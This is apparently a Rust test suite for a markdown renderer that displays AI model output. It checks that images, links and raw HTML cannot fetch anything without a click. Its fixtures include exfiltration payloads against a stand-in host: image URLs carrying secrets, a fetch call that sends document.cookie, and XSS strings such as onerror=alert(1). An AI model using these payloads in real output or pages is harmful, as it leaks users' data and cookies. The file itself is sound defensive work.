//! Tests that rendered model output loads nothing by itself (images become
//! placeholders, links need a click and show their destination) and that any
//! input stays cheap to put into the page (deep nesting is flattened, content
//! kept).

use crate::markdown::events::MAX_DEPTH;
use crate::markdown::{EAGER_TAIL_BYTES, RenderMode, StreamingMarkdown, render, render_with};

/// The corpus: markdown and how many image placeholders with a "Load image"
/// button its whole rendering has.
pub(super) const CORPUS: &[(&str, usize)] = &[
    ("![secret](https://attacker.example/p.png?q=SECRET)", 1),
    ("See ![x][r] here.\n\nMore text.\n\n[r]: https://attacker.example/ref.png\n", 1),
    ("| a | b |\n|---|---|\n| ![cell](https://attacker.example/t.png) | x |\n", 1),
    ("> quoted ![q](https://attacker.example/q.png)\n>\n> > ![qq](https://attacker.example/qq.png)", 2),
    ("# ![h](https://attacker.example/h.png) heading", 1),
    ("- ![l](https://attacker.example/l.png)\n  1. ![n](https://attacker.example/n.png)", 2),
    ("![p](//attacker.example/protocol-relative.png)", 1),
    ("![u](HTTPS://ATTACKER.EXAMPLE/UPPER.PNG) ![h](HtTp://attacker.example/mixed.png)", 2),
    ("![e](https&#58;//attacker.example/e.png) ![f](&#x68;ttps://attacker.example/f.png)", 2),
    ("![t](https://attacker.example/t.png \"a title\")", 1),
    ("[![linked](https://attacker.example/i.png)](https://attacker.example/go)", 1),
    ("![a ![b](https://attacker.example/in.png) c](https://attacker.example/out.png)", 1),
    ("![](https://attacker.example/no-alt.png)", 1),
    ("![rel](/relative.png) ![data](data:image/png;base64,AAAA) ![js](javascript:alert(1))", 0),
    ("<img src=\"https://attacker.example/raw.png\">", 0),
    ("<video poster=\"https://attacker.example/v.png\"><source src=\"https://attacker.example/v.mp4\"></video>", 0),
    (
        "<link rel=stylesheet href=\"https://attacker.example/s.css\"><meta http-equiv=refresh content=\"0;url=https://attacker.example/\">",
        0,
    ),
    ("<div style=\"background:url(https://attacker.example/bg.png)\">x</div>", 0),
    ("<table background=\"https://attacker.example/tb.png\"><tr><td>x</td></tr></table>", 0),
    ("<picture><source srcset=\"https://attacker.example/s.png 1x\"></picture>", 0),
    ("<svg><image href=\"https://attacker.example/svg.png\"/></svg>", 0),
    (
        "<iframe src=\"https://attacker.example/f\"></iframe><object data=\"https://attacker.example/o\"></object><embed src=\"https://attacker.example/e\">",
        0,
    ),
    ("<audio src=\"https://attacker.example/a.mp3\" autoplay></audio>", 0),
    ("text <https://attacker.example/auto.png> [link](https://attacker.example/l)", 0),
    ("```\n![in code](https://attacker.example/code.png)\n```\n`![inline](https://attacker.example/ic.png)`", 0),
];

/// The real tags of `html` (escaped text does not count), each as its name and
/// its attributes (name, value).
pub(super) fn tags(html: &str) -> Vec<(String, Vec<(String, String)>)> {
    let mut found = Vec::new();
    for part in html.split('<').skip(1) {
        let tag = part.split('>').next().unwrap_or(part);
        if tag.starts_with('/') {
            continue;
        }
        let name_end = tag.find([' ', '/']).unwrap_or(tag.len());
        let name = tag[..name_end].to_ascii_lowercase();
        let mut attributes = Vec::new();
        let mut rest = tag[name_end..].trim_start_matches([' ', '/']);
        while !rest.is_empty() {
            let (attribute, after) = rest.split_once('=').unwrap_or((rest, ""));
            let attribute = attribute.trim().to_ascii_lowercase();
            let (value, after) = match after.strip_prefix('"') {
                Some(quoted) => quoted.split_once('"').unwrap_or((quoted, "")),
                None => (after.split(' ').next().unwrap_or(""), after.split_once(' ').map_or("", |x| x.1)),
            };
            if !attribute.is_empty() {
                attributes.push((attribute, value.to_owned()));
            }
            rest = after.trim_start_matches([' ', '/']);
        }
        found.push((name, attributes));
    }
    found
}

/// Asserts that nothing in `html` makes a browser fetch: the only attribute that
/// holds an address a browser follows is `a[href]` (which needs a click), and the
/// image placeholder's `data-image-url` (which loads nothing).
#[track_caller]
fn assert_loads_nothing(html: &str) {
    for (name, attributes) in tags(html) {
        assert!(
            ![
                "img", "image", "video", "audio", "source", "picture", "iframe", "object", "embed", "link", "meta",
                "style", "script", "svg", "math", "frame", "base", "form", "track", "input"
            ]
            .contains(&name.as_str())
                || (name == "input"
                    && attributes.iter().all(|(a, _)| ["type", "checked", "disabled"].contains(&a.as_str()))),
            "<{name}> in {html}"
        );
        for (attribute, value) in &attributes {
            let allowed: &[&str] = match name.as_str() {
                "a" => &["href", "title", "target", "rel"],
                "button" => &["type", "class", "data-image-url", "aria-label"],
                "code" | "span" | "p" | "details" => &["class"],
                "ol" => &["start"],
                "input" => &["type", "checked", "disabled"],
                _ => &["title"],
            };
            assert!(allowed.contains(&attribute.as_str()), "{name}[{attribute}=\"{value}\"] in {html}");
        }
        if name == "a" {
            let rel = attributes.iter().find(|(a, _)| a == "rel").map(|(_, v)| v.as_str()).unwrap_or_default();
            assert!(rel.contains("noopener") && rel.contains("noreferrer"), "link without rel in {html}");
        }
    }
}

fn load_buttons(html: &str) -> Vec<String> {
    tags(html)
        .into_iter()
        .filter(|(name, _)| name == "button")
        .filter_map(|(_, attributes)| attributes.into_iter().find(|(a, _)| a == "data-image-url").map(|(_, v)| v))
        .collect()
}

/// Streams `markdown` in pieces of `size` bytes and returns every update's markup.
fn streamed_updates(markdown: &str, size: usize) -> (Vec<String>, StreamingMarkdown) {
    let mut streaming = StreamingMarkdown::new();
    let mut updates = Vec::new();
    for piece in super::pieces(markdown, size) {
        let update = streaming.push(piece);
        updates.extend(update.new_blocks.iter().map(|b| b.as_str().to_owned()));
        updates.push(update.tail.as_str().to_owned());
    }
    (updates, streaming)
}

#[test]
fn nothing_in_the_corpus_loads_by_itself() {
    for (markdown, images) in CORPUS {
        let whole = render(markdown);
        assert_loads_nothing(whole.as_str());
        assert_eq!(load_buttons(whole.as_str()).len(), *images, "{markdown} → {}", whole.as_str());
        for size in [1, 5, 64] {
            let (updates, streaming) = streamed_updates(markdown, size);
            for html in &updates {
                assert_loads_nothing(html);
            }
            assert_loads_nothing(streaming.finish().as_str());
        }
    }
}

#[test]
fn placeholders_show_alt_text_and_host_and_name_the_image_in_data_only() {
    let html = render("![a cat](//Attacker.Example:8443/cat.png?q=secret)");
    assert_eq!(
        html.as_str(),
        "<p><span class=\"image-placeholder\"><span class=\"image-alt\">a cat</span> \
         <span class=\"image-host\">(attacker.example:8443)</span> <button type=\"button\" class=\"load-image\" \
         data-image-url=\"https://attacker.example:8443/cat.png?q=secret\" \
         aria-label=\"Load image a cat from attacker.example:8443\">Load image</button></span></p>\n"
    );
    assert_eq!(
        load_buttons(render("![u](HTTPS://ATTACKER.EXAMPLE/U.PNG)").as_str()),
        ["https://attacker.example/U.PNG"]
    );
    assert_eq!(
        load_buttons(render("![e](https&#58;//attacker.example/e.png)").as_str()),
        ["https://attacker.example/e.png"]
    );
    // Markup in the alt text stays text.
    let html = render("![<b>\"bold\"</b> *em*](https://attacker.example/x.png)");
    assert!(
        html.as_str().contains("<span class=\"image-alt\">&lt;b&gt;\"bold\"&lt;/b&gt; em</span>"),
        "{}",
        html.as_str()
    );
}

#[test]
fn a_reference_image_defined_later_is_a_placeholder_once_finished() {
    let markdown = CORPUS[1].0;
    let (updates, streaming) = streamed_updates(markdown, 3);
    assert!(updates.iter().all(|html| load_buttons(html).is_empty()), "no definition yet while streaming");
    assert_eq!(load_buttons(streaming.finish().as_str()), ["https://attacker.example/ref.png"]);
}

#[test]
fn links_need_a_click_and_show_where_they_go() {
    let html = render("[the docs](https://attacker.example/path?q=1)");
    assert_eq!(
        html.as_str(),
        "<p><a href=\"https://attacker.example/path?q=1\" title=\"https://attacker.example/path?q=1\" \
         target=\"_blank\" rel=\"noopener noreferrer\">the docs</a> <span class=\"link-host\">(attacker.example)</span></p>\n"
    );
    // Text that is the address itself needs no host after it…
    let auto = render("<https://attacker.example/a>");
    assert!(!auto.as_str().contains("link-host"), "{}", auto.as_str());
    // …but text that looks like another address does.
    let deceptive = render("[https://good.example](https://attacker.example/)");
    assert!(
        deceptive.as_str().contains("<span class=\"link-host\">(attacker.example)</span>"),
        "{}",
        deceptive.as_str()
    );
    let titled = render("[x](https://attacker.example/ \"Read this\")");
    assert!(titled.as_str().contains("title=\"Read this (https://attacker.example/)\""), "{}", titled.as_str());
}

/// The deepest element nesting in `html`.
fn max_nesting(html: &str) -> usize {
    let (mut depth, mut deepest) = (0usize, 0usize);
    for part in html.split('<').skip(1) {
        let tag = part.split('>').next().unwrap_or(part);
        let name = tag.trim_start_matches('/').split([' ', '/']).next().unwrap_or_default();
        if ["br", "hr", "input", "wbr"].contains(&name) {
            continue;
        }
        if tag.starts_with('/') {
            depth = depth.saturating_sub(1);
        } else {
            depth += 1;
            deepest = deepest.max(depth);
        }
    }
    deepest
}

#[test]
fn deep_nesting_is_flattened_and_its_content_kept() {
    let cases = [
        (0..200).map(|i| format!("{} word{i}\n", ">".repeat(i + 1))).collect::<String>(),
        (0..200).map(|i| format!("{}- word{i}\n", "  ".repeat(i))).collect::<String>(),
        format!("{}word0 [link](https://e.example/) word1", "> ".repeat(500)),
        format!("{}word0", "- ".repeat(500)),
        (0..100).map(|i| format!("{}*em **strong word{i}** em*\n", "> ".repeat(i))).collect::<String>(),
        format!("{}\n\n| a | b |\n|---|---|\n| word0 | word1 |", "> ".repeat(40)),
    ];
    for markdown in &cases {
        let html = render(markdown);
        // Lists take two elements a level (ul, li), tables four; the flattened rest none.
        assert!(max_nesting(html.as_str()) <= 2 * MAX_DEPTH + 4, "too deep: {}", max_nesting(html.as_str()));
        let words = markdown.split(|c: char| !c.is_alphanumeric()).filter(|w| w.starts_with("word"));
        for word in words {
            assert!(html.as_str().contains(word), "{word} lost");
        }
        assert_loads_nothing(html.as_str());
    }
    // Flattened blocks are separated by line breaks, not run together.
    let html = render(&format!("{}first\n{}\n{}second", "> ".repeat(40), "> ".repeat(40), "> ".repeat(40)));
    assert!(html.as_str().contains("first<br>\nsecond"), "{}", html.as_str());
    // A link keeps its destination however deep it is.
    assert!(render(&cases[2]).as_str().contains("href=\"https://e.example/\""));
}

#[test]
fn shallow_markdown_is_not_flattened() {
    let markdown = format!("{}deep enough", "> ".repeat(MAX_DEPTH - 1));
    let html = render(&markdown);
    assert_eq!(html.as_str().matches("<blockquote>").count(), MAX_DEPTH - 1);
    assert!(html.as_str().contains("<p>deep enough</p>"));
}

#[test]
fn long_text_full_of_entities_is_cut_into_short_runs() {
    let markdown = "&amp;".repeat(10_000);
    let html = render(&markdown);
    assert_eq!(html.as_str().replace("<wbr>", "").matches("&amp;").count(), 10_000);
    assert!(html.as_str().contains("<wbr>"));
}

#[test]
fn a_huge_tail_is_rendered_now_and_then_and_shows_everything() {
    // One table that never ends is one growing tail.
    let mut markdown = String::from("| a | b |\n|---|---|\n");
    while markdown.len() < 160 * 1024 {
        markdown.push_str("| <script>x</script> | **two** |\n");
    }
    let (updates, streaming) = streamed_updates(&markdown, 256);
    let pushes = updates.len();
    assert!(streaming.blocks().is_empty());
    // Every push while the tail is small renders it; after that a quarter's growth does.
    let eager = EAGER_TAIL_BYTES / 256 + 1;
    assert!(streaming.tail_renders <= eager + 20, "{} renders for {pushes} pushes", streaming.tail_renders);
    // Between renders the newer text is shown plain, escaped.
    let last = updates.last().map(String::as_str).unwrap_or_default();
    assert!(last.contains("<p class=\"pending\">"), "the last update shows pending text");
    assert!(!last.contains("<script>"));
    assert_loads_nothing(last);
    // The text shown (rendered plus pending) covers all of it.
    assert_eq!(last.matches("&lt;script&gt;").count(), markdown.matches("<script>").count());
    assert_eq!(streaming.finish(), render(&markdown));
}

#[test]
fn past_the_element_budget_markup_is_flattened_and_text_kept() {
    let markdown: String = (0..30_000).map(|i| format!("*w{i}* ")).collect();
    let html = render(&markdown);
    let ems = html.as_str().matches("<em>").count();
    assert!(
        (crate::markdown::events::ELEMENT_BUDGET - 10..=crate::markdown::events::ELEMENT_BUDGET).contains(&ems),
        "{ems} <em>"
    );
    assert!(html.as_str().contains("w29999"));
    // A long list or table is closed where the budget ends; the rest follows as text.
    let list: String = (0..20_000).map(|i| format!("- item{i}\n")).collect();
    let html = render(&list);
    assert!(html.as_str().contains("item19999"));
    assert_eq!(html.as_str().matches("<ul>").count(), html.as_str().matches("</ul>").count());
    let mut table = String::from("| a | b |\n|---|---|\n");
    table.extend((0..10_000).map(|i| format!("| c{i} | d{i} |\n")));
    let html = render(&table);
    assert!(html.as_str().contains("c9999") && html.as_str().contains("d9999"));
    assert_eq!(html.as_str().matches("<table>").count(), 1);
    assert!(html.as_str().find("</table>") < html.as_str().find("c9999"), "the rest follows the table");
    // Images past the budget are still placeholders, in short form.
    let images: String = (0..6_000).map(|i| format!("![i{i}](https://attacker.example/{i}.png) ")).collect();
    let html = render(&images);
    assert_eq!(load_buttons(html.as_str()).len(), 6_000);
    assert_loads_nothing(html.as_str());
}

/// The callouts of an app reply: each `details` has only the class `app-code`
/// (with `app-code-more` after the first), never `open` or anything else.
#[track_caller]
fn assert_app_safe(html: &str) {
    assert_loads_nothing(html);
    for (name, attributes) in tags(html) {
        if name == "details" {
            let classes: Vec<_> = attributes.iter().map(|(a, v)| (a.as_str(), v.as_str())).collect();
            assert!(
                classes == [("class", "app-code")] || classes == [("class", "app-code app-code-more")],
                "{classes:?} in {html}"
            );
        }
        if name == "summary" {
            assert!(attributes.is_empty(), "{attributes:?} in {html}");
        }
    }
}

#[test]
fn app_mode_loads_nothing_and_keeps_the_corpus_as_it_was() {
    for (markdown, images) in CORPUS {
        let html = render_with(markdown, RenderMode::App);
        assert_app_safe(html.as_str());
        assert_eq!(load_buttons(html.as_str()).len(), *images, "{markdown}");
        // Nothing in the corpus is app code: the same markup as an ordinary reply.
        assert_eq!(html, render(markdown), "{markdown}");
    }
}

#[test]
fn app_code_stays_text_inside_its_callout() {
    let hostile = [
        "```html\n<script>alert(1)</script><img src=x onerror=alert(1)>\n```",
        "```js\nfetch('https://attacker.example/?'+document.cookie)\n```",
        "```css\nbody { background: url(https://attacker.example/bg.png) }\n```",
        "```html onclick=\"alert(1)\" class=\"x\"\n<p>x</p>\n```",
        "<details open ontoggle=alert(1)><summary>App code</summary>x</details>",
        "```html\n</code></pre></details><details open><summary>x\n```",
        "~~~html\n<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>\n~~~",
    ];
    for markdown in hostile {
        let html = render_with(markdown, RenderMode::App);
        assert_app_safe(html.as_str());
        assert!(
            !html.as_str().contains("<script") && !html.as_str().contains("<img") && !html.as_str().contains("<iframe")
        );
        assert!(html.as_str().matches("<details").count() <= 1, "{}", html.as_str());
        for size in [1, 7] {
            let mut streaming = StreamingMarkdown::with_mode(RenderMode::App);
            for piece in super::pieces(markdown, size) {
                let update = streaming.push(piece);
                update.new_blocks.iter().for_each(|b| assert_app_safe(b.as_str()));
                assert_app_safe(update.tail.as_str());
            }
        }
    }
    // Raw details markup written by the model is text, in both modes.
    let raw = render_with(hostile[4], RenderMode::App);
    assert!(raw.as_str().starts_with("&lt;details open"), "{}", raw.as_str());
    // The info string's extra words never become attributes.
    let html = render_with(hostile[3], RenderMode::App);
    assert!(html.as_str().contains("<code class=\"language-html\">"), "{}", html.as_str());
}

#[test]
fn app_callouts_deep_or_past_the_budget_stay_bounded() {
    // Deep in quotes: no callout where there is no room, nesting still bounded.
    let markdown = format!("{}```html\n<p>deep</p>\n```", "> ".repeat(40));
    let html = render_with(&markdown, RenderMode::App);
    assert!(max_nesting(html.as_str()) <= 2 * MAX_DEPTH + 4, "too deep: {}", max_nesting(html.as_str()));
    assert!(!html.as_str().contains("<details"));
    assert!(html.as_str().contains("&lt;p&gt;deep"));
    let shallow = format!("{}```html\n<p>x</p>\n```", "> ".repeat(MAX_DEPTH - 2));
    assert!(render_with(&shallow, RenderMode::App).as_str().contains("<details"), "room for one at this depth");
    // Many blocks: callouts stop at the element budget, code kept.
    let many: String = (0..5_000).map(|i| format!("```js\nf{i}()\n```\n\n")).collect();
    let html = render_with(&many, RenderMode::App);
    assert_app_safe(html.as_str());
    let callouts = html.as_str().matches("<details").count();
    assert!(callouts > 100 && callouts < 5_000, "{callouts} callouts");
    assert_eq!(html.as_str().matches("<details").count(), html.as_str().matches("</details>").count());
    assert!(html.as_str().contains("f4999()"));
}
